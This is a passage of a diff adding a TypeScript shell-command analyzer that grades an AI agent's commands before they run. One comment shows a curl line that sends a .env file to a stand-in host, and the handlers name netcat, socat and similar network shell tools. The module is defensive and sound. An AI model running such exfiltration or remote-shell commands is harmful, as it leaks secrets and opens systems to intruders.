@@ -0,0 +1,1079 @@
+import * as path from 'path';
+import { safeReadValidated } from './memory';
+import { DECISION_RANK, DecisionRecord, ShellCapability } from './types';
+
+type Decision = DecisionRecord['decision'];
+
+export interface ShellWord {
+  text: string;
+  /** Holds a variable, substitution or other expansion only known at run time. */
+  dynamic: boolean;
+  /** Holds an unquoted glob character. */
+  glob: boolean;
+}
+
+export interface ShellFinding {
+  /** Unset when the command could not be analysed at all. */
+  capability?: ShellCapability;
+  command: string;
+  detail: string;
+  decision: Decision;
+}
+
+export interface ShellAnalysis {
+  decision: Decision;
+  capabilities: ShellCapability[];
+  findings: ShellFinding[];
+  explanation: string;
+}
+
+type Token = { kind: 'word'; word: ShellWord } | { kind: 'op'; op: string };
+
+interface Redirect {
+  op: string;
+  target: ShellWord;
+}
+
+interface SimpleCommand {
+  argv: ShellWord[];
+  redirects: Redirect[];
+}
+
+interface Context {
+  cwd: string | null;
+  depth: number;
+  findings: ShellFinding[];
+  /** Files written earlier in the command, whose contents on disk are not what a later step runs. */
+  written: Set<string>;
+}
+
+/** What a file operation does to its target: removes data, or only writes it. */
+type Effect = 'delete' | 'write';
+
+type TargetKind = 'root' | 'protected' | 'state' | 'scratch' | 'other' | 'unknown';
+
+type Handler = (args: ShellWord[], ctx: Context, call: { display: string; stdinCode: boolean }) => void;
+
+export const SHELL_CAPABILITIES: ShellCapability[] = ['destructive_fs', 'network_egress', 'privilege_escalation', 'process_control'];
+
+
+// sh -c "sh -c '...'" can nest; past this we stop looking and hold the command
+const MAX_DEPTH = 6;
+
+const REDIRECT_OPS = new Set(['>', '>>', '>|', '&>', '&>>', '<', '<<', '<<<', '<>', '>&', '<&']);
+const KEYWORDS = new Set(['if', 'then', 'else', 'elif', 'fi', 'do', 'done', 'while', 'until', '!', '{', '}', 'time']);
+
+// The agent's sprite layout: scratch space it may freely clear, and its own state
+const SCRATCH_ROOTS = ['/projects', '/public', '/tmp'];
+const STATE_ROOTS = ['/self', '/income', '/comms'];
+const PROTECTED_ROOTS = [
+  '/opt/agent', '/var/lib/gurgeh', '/etc', '/usr', '/bin', '/sbin', '/lib', '/lib64',
+  '/boot', '/dev', '/proc', '/sys', '/root', '/home', '/var', '/srv',
+];
+const HARMLESS_DEVICES = new Set(['/dev/null', '/dev/stdout', '/dev/stderr', '/dev/tty']);
+
+// Commands with no handler that only read their operands. Any other command
+// naming a protected path is treated as writing to it (sed -i, tar -x -C, ...).
+const READ_ONLY_COMMANDS = new Set([
+  'cat', 'ls', 'head', 'tail', 'less', 'more', 'grep', 'egrep', 'fgrep', 'rg', 'stat', 'file', 'wc', 'diff', 'cmp',
+  'du', 'df', 'which', 'whereis', 'type', 'readlink', 'realpath', 'basename', 'dirname', 'md5sum', 'sha1sum',
+  'sha256sum', 'test', '[', 'echo', 'printf', 'tree', 'pwd', 'true', 'false', 'id', 'whoami', 'uname', 'date',
+]);
+
+// Options of interpreters whose value is code to run
+const INLINE_CODE_OPTIONS = new Set(['-c', '-e', '-E', '-p', '-r', '--eval', '--print', '--command']);
+
+function literal(text: string): ShellWord {
+  return { text, dynamic: false, glob: false };
+}
+
+// --- Tokenizer ---
+
+/** Index just past the `)` matching the `(` at `open`, skipping quoted text. */
+function findClosingParen(src: string, open: number): number {
+  let depth = 0;
+  for (let i = open; i < src.length; i++) {
+    const ch = src[i];
+    if (ch === '\\') {
+      i++;
+    } else if (ch === "'") {
+      const end = src.indexOf("'", i + 1);
+      if (end < 0) return -1;
+      i = end;
+    } else if (ch === '"') {
+      i++;
+      while (i < src.length && src[i] !== '"') i += src[i] === '\\' ? 2 : 1;
+    } else if (ch === '(') {
+      depth++;
+    } else if (ch === ')' && --depth === 0) {
+      return i + 1;
+    }
+  }
+  return -1;
+}
+
+/**
+ * Read a `$...` or backtick expansion at `i`. Command substitutions are
+ * returned so they can be analysed as commands in their own right.
+ */
+function readExpansion(src: string, i: number): { text: string; end: number; dynamic: boolean; sub: string | null } | string {
+  if (src[i] === '`') {
+    let j = i + 1;
+    while (j < src.length && src[j] !== '`') j += src[j] === '\\' ? 2 : 1;
+    if (j >= src.length) return 'unterminated backtick';
+    return { text: src.slice(i, j + 1), end: j + 1, dynamic: true, sub: src.slice(i + 1, j).replace(/\\`/g, '`') };
+  }
+
+  const next = src[i + 1];
+  if (next === '(') {
+    const end = findClosingParen(src, i + 1);
+    if (end < 0) return 'unterminated $(';
+    const arithmetic = src[i + 2] === '(';
+    return { text: src.slice(i, end), end, dynamic: true, sub: arithmetic ? null : src.slice(i + 2, end - 1) };
+  }
+  if (next === '{') {
+    const end = src.indexOf('}', i + 2);
+    if (end < 0) return 'unterminated ${';
+    return { text: src.slice(i, end + 1), end: end + 1, dynamic: true, sub: null };
+  }
+  if (next === "'") {
+    // ANSI-C quoting can spell any name in escapes, so treat it as unknown
+    let j = i + 2;
+    while (j < src.length && src[j] !== "'") j += src[j] === '\\' ? 2 : 1;
+    if (j >= src.length) return "unterminated $'";
+    return { text: src.slice(i, j + 1), end: j + 1, dynamic: true, sub: null };
+  }
+  const name = src.slice(i + 1).match(/^([A-Za-z_][A-Za-z0-9_]*|[0-9@*#?$!-])/);
+  if (name) return { text: src.slice(i, i + 1 + name[0].length), end: i + 1 + name[0].length, dynamic: true, sub: null };
+
+  return { text: '$', end: i + 1, dynamic: false, sub: null };
+}
+
+function tokenize(src: string): { tokens: Token[]; substitutions: string[] } | string {
+  const tokens: Token[] = [];
+  const substitutions: string[] = [];
+  const heredocs: string[] = [];
+  let awaitingDelimiter = false;
+
+  let text = '';
+  let dynamic = false;
+  let glob = false;
+  let inWord = false;
+
+  const flush = (): void => {
+    if (!inWord) return;
+    if (awaitingDelimiter) {
+      heredocs.push(text);
+      awaitingDelimiter = false;
+    }
+    tokens.push({ kind: 'word', word: { text, dynamic, glob } });
+    text = '';
+    dynamic = false;
+    glob = false;
+    inWord = false;
+  };
+
+  let i = 0;
+  while (i < src.length) {
+    const ch = src[i];
+
+    if (ch === ' ' || ch === '\t') {
+      flush();
+      i++;
+    } else if (ch === '\n') {
+      flush();
+      tokens.push({ kind: 'op', op: ';' });
+      i++;
+      // Here-document bodies are data for the command, not commands
+      while (heredocs.length > 0 && i < src.length) {
+        const lineEnd = src.indexOf('\n', i) < 0 ? src.length : src.indexOf('\n', i);
+        if (src.slice(i, lineEnd).trim() === heredocs[0]) heredocs.shift();
+        i = lineEnd + 1;
+      }
+    } else if (ch === '#' && !inWord) {
+      while (i < src.length && src[i] !== '\n') i++;
+    } else if (ch === '\\') {
+      if (src[i + 1] !== '\n' && i + 1 < src.length) {
+        text += src[i + 1];
+        inWord = true;
+      }
+      i += 2;
+    } else if (ch === "'") {
+      const end = src.indexOf("'", i + 1);
+      if (end < 0) return 'unterminated single quote';
+      text += src.slice(i + 1, end);
+      inWord = true;
+      i = end + 1;
+    } else if (ch === '"') {
+      inWord = true;
+      i++;
+      while (i < src.length && src[i] !== '"') {
+        if (src[i] === '\\' && '"\\$`\n'.includes(src[i + 1])) {
+          if (src[i + 1] !== '\n') text += src[i + 1];
+          i += 2;
+        } else if (src[i] === '$' || src[i] === '`') {
+          const expansion = readExpansion(src, i);
+          if (typeof expansion === 'string') return expansion;
+          text += expansion.text;
+          dynamic ||= expansion.dynamic;
+          if (expansion.sub !== null) substitutions.push(expansion.sub);
+          i = expansion.end;
+        } else {
+          text += src[i++];
+        }
+      }
+      if (i >= src.length) return 'unterminated double quote';
+      i++;
+    } else if (ch === '$' || ch === '`') {
+      const expansion = readExpansion(src, i);
+      if (typeof expansion === 'string') return expansion;
+      text += expansion.text;
+      dynamic ||= expansion.dynamic;
+      if (expansion.sub !== null) substitutions.push(expansion.sub);
+      inWord = true;
+      i = expansion.end;
+    } else if ((ch === '<' || ch === '>') && src[i + 1] === '(') {
+      // Process substitution: <(cmd) or >(cmd)
+      const end = findClosingParen(src, i + 1);
+      if (end < 0) return `unterminated ${ch}(`;
+      substitutions.push(src.slice(i + 2, end - 1));
+      text += src.slice(i, end);
+      dynamic = true;
+      inWord = true;
+      i = end;
+    } else if (ch === '<' || ch === '>') {
+      // Digits right before a redirection are its file descriptor: 2>file
+      if (inWord && !dynamic && /^\d+$/.test(text)) {
+        text = '';
+        inWord = false;
+      } else {
+        flush();
+      }
+      let op = ch;
+      i++;
+      if (ch === '>' && '>|&'.includes(src[i] || ' ')) {
+        op += src[i++];
+      } else if (ch === '<' && '<&>'.includes(src[i] || ' ')) {
+        op += src[i++];
+        if (op === '<<' && src[i] === '<') op += src[i++];
+        else if (op === '<<' && src[i] === '-') i++;
+      }
+      if (op === '<<') awaitingDelimiter = true;
+      tokens.push({ kind: 'op', op });
+    } else if (ch === '&' && src[i + 1] === '>') {
+      flush();
+      i += 2;
+      let op = '&>';
+      if (src[i] === '>') {
+        op = '&>>';
+        i++;
+      }
+      tokens.push({ kind: 'op', op });
+    } else if ('|&;()'.includes(ch)) {
+      flush();
+      let op = ch;
+      if ('|&;'.includes(ch) && src[i + 1] === ch) {
+        op += ch;
+        i++;
+      } else if (ch === '|' && src[i + 1] === '&') {
+        i++;
+      }
+      tokens.push({ kind: 'op', op });
+      i++;
+    } else {
+      if ('*?['.includes(ch)) glob = true;
+      text += ch;
+      inWord = true;
+      i++;
+    }
+  }
+  flush();
+
+  return { tokens, substitutions };
+}
+
+/** Group tokens into pipelines of simple commands. Control flow is flattened. */
+function parse(tokens: Token[]): SimpleCommand[][] {
+  const pipelines: SimpleCommand[][] = [];
+  let pipeline: SimpleCommand[] = [];
+  let current: SimpleCommand = { argv: [], redirects: [] };
+
+  const endCommand = (): void => {
+    if (current.argv.length > 0 || current.redirects.length > 0) pipeline.push(current);
+    current = { argv: [], redirects: [] };
+  };
+  const endPipeline = (): void => {
+    endCommand();
+    if (pipeline.length > 0) pipelines.push(pipeline);
+    pipeline = [];
+  };
+
+  for (let i = 0; i < tokens.length; i++) {
+    const token = tokens[i];
+    if (token.kind === 'op') {
+      if (REDIRECT_OPS.has(token.op)) {
+        const next = tokens[i + 1];
+        if (next?.kind === 'word') {
+          current.redirects.push({ op: token.op, target: next.word });
+          i++;
+        }
+      } else if (token.op === '|') {
+        endCommand();
+      } else {
+        endPipeline();
+      }
+      continue;
+    }
+    if (current.argv.length === 0 && !token.word.dynamic && KEYWORDS.has(token.word.text)) continue;
+    current.argv.push(token.word);
+  }
+  endPipeline();
+
+  return pipelines;
+}
+
+// --- Targets ---
+
+function underRoot(p: string, root: string): boolean {
+  return p === root || p.startsWith(`${root}/`);
+}
+
+function classifyPath(p: string): TargetKind {
+  if (p === '/') return 'root';
+  if (p.startsWith('/founding-document') || PROTECTED_ROOTS.some(r => underRoot(p, r))) return 'protected';
+  // Clearing one project is routine; clearing all of them is not
+  if (SCRATCH_ROOTS.includes(p)) return 'state';
+  if (SCRATCH_ROOTS.some(r => p.startsWith(`${r}/`))) return 'scratch';
+  if (STATE_ROOTS.some(r => underRoot(p, r))) return 'state';
+  return 'other';
+}
+
+function classifyTarget(word: ShellWord, cwd: string | null): { kind: TargetKind; path: string } {
+  if (word.dynamic || word.text.startsWith('~')) return { kind: 'unknown', path: word.text };
+  if (!cwd && !word.text.startsWith('/')) return { kind: 'unknown', path: word.text };
+
+  let target = word.text;
+  if (word.glob) {
+    // A glob reaches everything in the directory its static prefix names
+    const prefix = target.slice(0, target.search(/[*?[]/));
+    target = prefix.endsWith('/') ? prefix : path.posix.dirname(prefix || '.');
+  }
+  const resolved = path.posix.resolve(cwd || '/', target);
+  return { kind: classifyPath(resolved), path: resolved };
+}
+
+function grade(kind: TargetKind, effect: Effect): Decision {
+  switch (kind) {
+    case 'root':
+    case 'protected':
+      return 'block';
+    case 'scratch':
+      return 'proceed';
+    case 'state':
+      return effect === 'delete' ? 'defer' : 'proceed';
+    default:
+      return 'defer';
+  }
+}
+
+function describeTarget(kind: TargetKind, p: string): string {
+  switch (kind) {
+    case 'root': return 'the filesystem root';
+    case 'protected': return `${p}, a protected system or agent path`;
+    case 'state': return `${p}, part of the agent's own state`;
+    case 'scratch': return p;
+    case 'other': return `${p}, outside the agent's directories`;
+    default: return `${p}, a path only known at run time`;
+  }
+}
+
+// --- Analysis ---
+
+function addFinding(ctx: Context, finding: ShellFinding): void {
+  ctx.findings.push(finding);
+}
+
+function fileEffect(ctx: Context, display: string, words: ShellWord[], effect: Effect, verb: string): void {
+  for (const word of words) {
+    const target = classifyTarget(word, ctx.cwd);
+    const decision = grade(target.kind, effect);
+    if (effect === 'write') ctx.written.add(target.path);
+    // Writing inside the agent's own directories is not worth reporting
+    if (effect === 'write' && decision === 'proceed') continue;
+    addFinding(ctx, { capability: 'destructive_fs', command: display, detail: `${verb} ${describeTarget(target.kind, target.path)}`, decision });
+  }
+}
+
+/** Arguments that are not options. Everything after `--` counts. */
+function operands(args: ShellWord[], optionsWithValue: string[] = []): ShellWord[] {
+  const result: ShellWord[] = [];
+  for (let i = 0; i < args.length; i++) {
+    const text = args[i].text;
+    if (text === '--') return result.concat(args.slice(i + 1));
+    if (text.startsWith('-') && text !== '-' && !args[i].dynamic) {
+      if (optionsWithValue.includes(text)) i++;
+      continue;
+    }
+    result.push(args[i]);
+  }
+  return result;
+}
+
+/** Drop leading VAR=value assignments. */
+function withoutAssignments(words: ShellWord[]): ShellWord[] {
+  const start = words.findIndex(w => !/^[A-Za-z_][A-Za-z0-9_]*=/.test(w.text));
+  return start < 0 ? [] : words.slice(start);
+}
+
+/** Skip a wrapper's own options and return the command it runs. */
+function wrapped(args: ShellWord[], optionsWithValue: string[] = []): ShellWord[] {
+  let i = 0;
+  while (i < args.length && args[i].text.startsWith('-') && !args[i].dynamic) {
+    if (args[i].text === '--') return args.slice(i + 1);
+    i += optionsWithValue.includes(args[i].text) ? 2 : 1;
+  }
+  return args.slice(i);
+}
+
+function network(ctx: Context, display: string, detail: string, decision: Decision): void {
+  addFinding(ctx, { capability: 'network_egress', command: display, detail, decision });
+}
+
+/**
+ * A request that sends data, or whose URL or headers are built at run time —
+ * `curl "https://x/?k=$(cat .env)"` sends whatever the substitution reads.
+ */
+function egress(ctx: Context, display: string, sends: boolean, args: ShellWord[]): void {
+  if (sends) {
+    network(ctx, display, 'sends data to an external service', 'defer');
+  } else if (args.some(w => w.dynamic)) {
+    network(ctx, display, 'sends a request built at run time, which may carry data out', 'defer');
+  } else {
+    network(ctx, display, 'downloads from the network', 'proceed');
+  }
+}
+
+function processControl(ctx: Context, display: string, detail: string, decision: Decision): void {
+  addFinding(ctx, { capability: 'process_control', command: display, detail, decision });
+}
+
+function privilege(ctx: Context, display: string, detail: string, decision: Decision): void {
+  addFinding(ctx, { capability: 'privilege_escalation', command: display, detail, decision });
+}
+
+function opaque(ctx: Context, display: string, detail: string): void {
+  addFinding(ctx, { command: display, detail, decision: 'defer' });
+}
+
+function nestedScript(ctx: Context, display: string, script: ShellWord | undefined): void {
+  if (!script) return;
+  if (script.dynamic) {
+    opaque(ctx, display, 'runs a script built at run time, which cannot be inspected');
+    return;
+  }
+  analyzeScript(script.text, { ...ctx, depth: ctx.depth + 1 });
+}
+
+/**
+ * Read a script file the command runs. Only files in the agent's own
+ * directories are read; anything else, or a file this command writes first,
+ * is held as uninspectable.
+ */
+function readScriptFile(ctx: Context, display: string, file: ShellWord): string | null {
+  const target = file.glob ? { kind: 'unknown' as const, path: file.text } : classifyTarget(file, ctx.cwd);
+  if (target.kind !== 'scratch' && target.kind !== 'state') {
+    opaque(ctx, display, `runs the script ${describeTarget(target.kind, target.path)}, which cannot be inspected`);
+    return null;
+  }
+  if (ctx.written.has(target.path)) {
+    opaque(ctx, display, `runs ${target.path} after writing it, so its contents cannot be inspected`);
+    return null;
+  }
+
+  let content: string | null = null;
+  try {
+    content = safeReadValidated(target.path);
+  } catch {
+    // A symlink out of the agent's directories
+  }
+  if (content === null) opaque(ctx, display, `runs ${target.path}, which could not be read`);
+  return content;
+}
+
+/** `sh x.sh` runs the file in a new shell; `. x.sh` runs it in this one, so its cd carries over. */
+function scriptFile(ctx: Context, display: string, file: ShellWord, sourced: boolean): void {
+  const content = readScriptFile(ctx, display, file);
+  if (content === null) return;
+  const inner = { ...ctx, depth: ctx.depth + 1 };
+  analyzeScript(content, inner);
+  if (sourced) ctx.cwd = inner.cwd;
+}
+
+const AWK_STRING = /"((?:[^"\\]|\\.)*)"/g;
+
+/**
+ * An awk program can run shell commands through system(), `print | "cmd"` and
+ * `"cmd" | getline`, and write files through `print > "file"`. Commands given
+ * as string literals are analysed; any built at run time are held.
+ */
+function awkProgram(ctx: Context, display: string, program: string): void {
+  // Pull out string literals first, so a > or | inside one is not read as an operator
+  const strings: string[] = [];
+  const code = program.replace(AWK_STRING, (_match, body: string) => `\u0001${strings.push(body.replace(/\\(.)/g, '$1')) - 1}\u0001`);
+  const stringAt = (index: string | undefined): ShellWord | undefined =>
+    index === undefined ? undefined : literal(strings[Number(index)]);
+
+  for (const match of code.matchAll(/\bsystem\s*\(\s*(?:\u0001(\d+)\u0001\s*\))?/g)) {
+    const command = stringAt(match[1]);
+    if (command) nestedScript(ctx, display, command);
+    else opaque(ctx, display, 'runs a command built at run time through awk system(), which cannot be inspected');
+  }
+
+  for (const match of code.matchAll(/(\u0001(\d+)\u0001\s*)?(?<!\|)\|&?\s*getline\b/g)) {
+    const command = stringAt(match[2]);
+    if (command) nestedScript(ctx, display, command);
+    else opaque(ctx, display, 'reads from a command built at run time through awk getline, which cannot be inspected');
+  }
+
+  for (const match of code.matchAll(/\bprintf?\b[^;{}\n]*?(?<!\|)(\|&?|>>?)(?!\|)\s*(?:\u0001(\d+)\u0001)?/g)) {
+    const target = stringAt(match[2]);
+    if (match[1].startsWith('|')) {
+      // The command reads what awk prints, so `print | "sh"` runs awk's output
+      if (target) analyzeScript(target.text, { ...ctx, depth: ctx.depth + 1 }, true);
+      else opaque(ctx, display, 'pipes awk output to a command built at run time, which cannot be inspected');
+    } else {
+      if (target && HARMLESS_DEVICES.has(target.text)) continue;
+      fileEffect(ctx, display, [target || { text: '<awk expression>', dynamic: true, glob: false }], 'write', 'overwrites');
+    }
+  }
+}
+
+const deleteFiles: Handler = (args, ctx, { display }) => {
+  fileEffect(ctx, display, operands(args), 'delete', 'deletes');
+};
+
+const copyFiles: Handler = (args, ctx, { display }) => {
+  const targets = operands(args, ['-t', '--target-directory', '-S', '--suffix', '-m', '--mode', '-o', '-g']);
+  fileEffect(ctx, display, targets.slice(-1), 'write', 'overwrites');
+};
+
+const formatDisk: Handler = (_args, ctx, { display }) => {
+  addFinding(ctx, { capability: 'destructive_fs', command: display, detail: 'formats or repartitions a disk', decision: 'block' });
+};
+
+const shutdown: Handler = (_args, ctx, { display }) => {
+  processControl(ctx, display, 'shuts down or restarts the machine', 'block');
+};
+
+const remoteShell: Handler = (_args, ctx, { display }) => {
+  network(ctx, display, 'connects to another machine', 'defer');
+};
+
+const sendMail: Handler = (_args, ctx, { display }) => {
+  network(ctx, display, 'sends email', 'defer');
+};
+
+const downloadPackages: Handler = (args, ctx, { display }) => {
+  const sub = operands(args)[0]?.text;
+  if (sub === 'publish' || sub === 'unpublish') {
+    network(ctx, display, 'publishes a package to a public registry', 'defer');
+  } else if (['install', 'i', 'add', 'ci', 'update', 'upgrade'].includes(sub || '')) {
+    network(ctx, display, 'downloads packages', 'proceed');
+  }
+};
+
+const systemPackages: Handler = (args, ctx, { display }) => {
+  const sub = operands(args)[0]?.text;
+  if (['install', 'remove', 'purge', 'upgrade', 'add', 'del', 'erase'].includes(sub || '')) {
+    privilege(ctx, display, 'changes system packages', 'defer');
+  }
+};
+
+const changeAccounts: Handler = (_args, ctx, { display }) => {
+  privilege(ctx, display, 'changes user accounts, passwords or sudo rights', 'block');
+};
+
+const elevate: Handler = (args, ctx, call) => {
+  const rest = wrapped(args, ['-u', '-g', '-h', '-p', '-C', '-r', '-t', '-U', '-D']);
+  if (rest.length === 0) {
+    privilege(ctx, call.display, 'opens a root shell', 'defer');
+    return;
+  }
+  privilege(ctx, call.display, 'runs a command with elevated privileges', 'defer');
+  analyzeArgv(rest, ctx, call);
+};
+
+const runWrapped = (optionsWithValue: string[] = [], skipOperands = 0): Handler => (args, ctx, call) => {
+  analyzeArgv(wrapped(args, optionsWithValue).slice(skipOperands), ctx, call);
+};
+
+const detach = (optionsWithValue: string[] = []): Handler => (args, ctx, call) => {
+  processControl(ctx, call.display, 'starts a process that keeps running after the awakening', 'proceed');
+  analyzeArgv(wrapped(args, optionsWithValue), ctx, call);
+};
+
+const shell: Handler = (args, ctx, call) => {
+  const flag = args.findIndex(w => /^-[a-z]*c[a-z]*$/.test(w.text));
+  const script = operands(args, ['-o', '+o'])[0];
+  // -s reads commands from input even when arguments follow
+  const fromInput = !script || script.text === '-' || args.some(w => /^-[a-z]*s[a-z]*$/.test(w.text));
+  if (flag >= 0) {
+    nestedScript(ctx, call.display, args[flag + 1]);
+  } else if (!fromInput) {
+    scriptFile(ctx, call.display, script, false);
+  } else if (call.stdinCode) {
+    opaque(ctx, call.display, 'runs commands from its input, which cannot be inspected');
+  }
+};
+
+const sourceFile: Handler = (args, ctx, call) => {
+  if (args.length === 0) {
+    opaque(ctx, call.display, 'runs a script only known at run time');
+    return;
+  }
+  scriptFile(ctx, call.display, args[0], true);
+};
+
+const awk: Handler = (args, ctx, call) => {
+  const withValue = ['-F', '-v', '-f', '-E', '-e', '-i', '-l', '--field-separator', '--assign', '--file', '--exec', '--source', '--include', '--load'];
+  let programs = 0;
+  for (let i = 0; i < args.length && args[i].text !== '--' && args[i].text.startsWith('-'); i++) {
+    // -f prog.awk, -fprog.awk and --file=prog.awk all name the same thing
+    const attached = args[i].text.match(/^(--[a-z-]+)=([^]*)$|^(-[fEeil])([^]+)$/);
+    const option = attached ? attached[1] || attached[3] : args[i].text;
+    const value = attached ? { ...args[i], text: attached[2] ?? attached[4] } : withValue.includes(option) ? args[++i] : undefined;
+    if (!value) continue;
+
+    if (['-f', '-E', '-i', '--file', '--exec', '--include'].includes(option)) {
+      programs++;
+      const content = readScriptFile(ctx, call.display, value);
+      if (content !== null) awkProgram(ctx, call.display, content);
+    } else if (option === '-e' || option === '--source') {
+      programs++;
+      if (value.dynamic) opaque(ctx, call.display, 'runs an awk program built at run time, which cannot be inspected');
+      else awkProgram(ctx, call.display, value.text);
+    } else if (option === '-l' || option === '--load') {
+      opaque(ctx, call.display, 'loads a compiled awk extension, which cannot be inspected');
+    }
+  }
+  if (programs > 0) return;
+
+  const program = operands(args, withValue)[0];
+  if (!program) return;
+  if (program.dynamic) opaque(ctx, call.display, 'runs an awk program built at run time, which cannot be inspected');
+  else awkProgram(ctx, call.display, program.text);
+};
+
+const interpreter: Handler = (args, ctx, call) => {
+  // Inline code can do anything a shell can, in a language this does not parse
+  if (args.some(w => INLINE_CODE_OPTIONS.has(w.text) || /^--(eval|print)=/.test(w.text))) {
+    opaque(ctx, call.display, 'runs inline code, which cannot be inspected');
+  } else if (args.length === 0 && call.stdinCode) {
+    opaque(ctx, call.display, 'runs code from its input, which cannot be inspected');
+  }
+};
+
+const HANDLERS: Record<string, Handler> = {
+  // Destructive filesystem operations
+  rm: deleteFiles,
+  rmdir: deleteFiles,
+  unlink: deleteFiles,
+  shred: deleteFiles,
+  srm: deleteFiles,
+  wipe: deleteFiles,
+  truncate: (args, ctx, { display }) => {
+    fileEffect(ctx, display, operands(args, ['-s', '--size', '-r', '--reference']), 'delete', 'truncates');
+  },
+  mv: (args, ctx, { display }) => {
+    const files = operands(args, ['-t', '--target-directory', '-S', '--suffix']);
+    fileEffect(ctx, display, files.slice(0, -1), 'delete', 'moves away');
+    fileEffect(ctx, display, files.slice(-1), 'write', 'overwrites');
+  },
+  cp: copyFiles,
+  install: copyFiles,
+  ln: (args, ctx, call) => {
+    copyFiles(args, ctx, call);
+    // A link into another tree lets later commands reach it through a scratch path
+    const files = operands(args, ['-t', '--target-directory', '-S', '--suffix']);
+    const linkDir = files.length > 1 ? files[files.length - 1] : literal('.');
+    const symbolic = args.some(w => /^(-[a-zA-Z]*s[a-zA-Z]*|--symbolic)$/.test(w.text));
+    for (const source of files.length > 1 ? files.slice(0, -1) : files) {
+      const relativeTo = symbolic && !source.text.startsWith('/') && !linkDir.dynamic
+        ? path.posix.dirname(path.posix.resolve(ctx.cwd || '/', linkDir.text))
+        : ctx.cwd;
+      const target = classifyTarget(source, relativeTo);
+      if (target.kind === 'scratch') continue;
+      const decision = target.kind === 'root' || target.kind === 'protected' ? 'block' : 'defer';
+      addFinding(ctx, { capability: 'destructive_fs', command: call.display, detail: `links to ${describeTarget(target.kind, target.path)}`, decision });
+    }
+  },
+  tee: (args, ctx, { display }) => {
+    fileEffect(ctx, display, operands(args), 'write', 'overwrites');
+  },
+  chmod: (args, ctx, { display }) => {
+    const [mode, ...files] = operands(args, ['--reference']);
+    if (mode && /^([ugoa]*\+[rwxXt]*s|0?[2-7][0-7]{3})$/.test(mode.text)) {
+      privilege(ctx, display, 'sets the setuid or setgid bit', 'defer');
+    }
+    fileEffect(ctx, display, files, 'write', 'changes permissions on');
+  },
+  chown: (args, ctx, { display }) => {
+    fileEffect(ctx, display, operands(args, ['--reference']).slice(1), 'write', 'changes ownership of');
+  },
+  chgrp: (args, ctx, { display }) => {
+    fileEffect(ctx, display, operands(args, ['--reference']).slice(1), 'write', 'changes ownership of');
+  },
+  dd: (args, ctx, { display }) => {
+    for (const arg of args) {
+      if (!arg.text.startsWith('of=')) continue;
+      const target = { ...arg, text: arg.text.slice(3) };
+      if (target.text.startsWith('/dev/') && !HARMLESS_DEVICES.has(target.text)) {
+        addFinding(ctx, { capability: 'destructive_fs', command: display, detail: `writes raw data to the device ${target.text}`, decision: 'block' });
+      } else {
+        fileEffect(ctx, display, [target], 'write', 'overwrites');
+      }
+    }
+  },
+  mkfs: formatDisk,
+  mke2fs: formatDisk,
+  mkswap: formatDisk,
+  wipefs: formatDisk,
+  fdisk: formatDisk,
+  sfdisk: formatDisk,
+  parted: formatDisk,
+  find: (args, ctx, call) => {
+    const start = args.findIndex(w => /^[-(!]/.test(w.text));
+    const roots = start < 0 ? args : args.slice(0, start);
+    const expression = start < 0 ? [] : args.slice(start);
+    if (roots.length === 0) roots.push(literal('.'));
+
+    if (expression.some(w => w.text === '-delete')) {
+      fileEffect(ctx, call.display, roots, 'delete', 'deletes matches under');
+    }
+
+    // -exec runs its command once per match, with {} standing for the match
+    for (let i = 0; i < expression.length; i++) {
+      if (!['-exec', '-execdir', '-ok', '-okdir'].includes(expression[i].text)) continue;
+      const end = expression.findIndex((w, j) => j > i && (w.text === ';' || w.text === '+'));
+      const argv = expression.slice(i + 1, end < 0 ? undefined : end).map(w => {
+        if (w.text !== '{}') return w;
+        return roots.length === 1 && !roots[0].dynamic
+          ? literal(`${roots[0].text.replace(/\/+$/, '')}/{}`)
+          : { text: '{}', dynamic: true, glob: false };
+      });
+      analyzeArgv(argv, ctx, { ...call, stdinCode: false });
+      if (end < 0) break;
+      i = end;
+    }
+  },
+
+  // Network egress
+  curl: (args, ctx, { display }) => {
+    const output = args.findIndex(w => w.text === '-o' || w.text === '--output');
+    const sends = args.some((w, i) =>
+      /^(--data\S*|--form\S*|--upload-file|--json|-[a-zA-Z]*[dFT])$/.test(w.text) ||
+      (/^(-X|--request)$/.test(w.text) && /^(POST|PUT|PATCH|DELETE)$/i.test(args[i + 1]?.text || '')) ||
+      /^-X(POST|PUT|PATCH|DELETE)$/i.test(w.text));
+    egress(ctx, display, sends, args.filter((_w, i) => output < 0 || i !== output + 1));
+    if (output >= 0 && args[output + 1]) fileEffect(ctx, display, [args[output + 1]], 'write', 'overwrites');
+  },
+  wget: (args, ctx, { display }) => {
+    const output = args.findIndex(w => w.text === '-O' || w.text === '--output-document');
+    const sends = args.some(w =>
+      /^--(post|body)-(data|file)/.test(w.text) || /^--method=(POST|PUT|PATCH|DELETE)$/i.test(w.text));
+    egress(ctx, display, sends, args.filter((_w, i) => output < 0 || i !== output + 1));
+    if (output >= 0 && args[output + 1]) fileEffect(ctx, display, [args[output + 1]], 'write', 'overwrites');
+  },
+  ssh: remoteShell,
+  scp: remoteShell,
+  sftp: remoteShell,
+  telnet: remoteShell,
+  ftp: remoteShell,
+  nc: remoteShell,
+  ncat: remoteShell,
+  netcat: remoteShell,
+  socat: remoteShell,
+  rsync: (args, ctx, { display }) => {
+    const files = operands(args, ['-e', '--rsh']);
+    if (files.some(w => /^[^/\s]+:/.test(w.text))) {
+      remoteShell(args, ctx, { display, stdinCode: false });
+      return;
+    }
+    const mirrors = args.some(w => w.text.startsWith('--delete'));
+    fileEffect(ctx, display, files.slice(-1), mirrors ? 'delete' : 'write', mirrors ? 'mirrors over' : 'overwrites');
+  },
+  mail: sendMail,
+  mailx: sendMail,
+  sendmail: sendMail,
+  git: (args, ctx, { display }) => {
+    const rest = wrapped(args, ['-C', '-c', '--git-dir', '--work-tree', '--namespace']);
+    const sub = rest[0]?.text;
+
+    // -C runs git as if started in that directory; --work-tree names the tree clean empties
+    const where: Context = { ...ctx };
+    let tree = literal('.');
+    const globals = args.slice(0, args.length - rest.length);
+    for (let i = 0; i < globals.length; i++) {
+      const option = globals[i].text;
+      if (option === '-C' && globals[i + 1]) {
+        const dir = classifyTarget(globals[++i], where.cwd);
+        where.cwd = dir.kind === 'unknown' ? null : dir.path;
+      } else if (option === '--work-tree' && globals[i + 1]) {
+        tree = globals[++i];
+      } else if (option.startsWith('--work-tree=')) {
+        tree = { ...globals[i], text: option.slice('--work-tree='.length) };
+      }
+    }
+
+    if (sub === 'push' || sub === 'send-email') {
+      network(ctx, display, 'publishes commits outside the sprite', 'defer');
+    } else if (['clone', 'fetch', 'pull', 'ls-remote', 'submodule'].includes(sub || '')) {
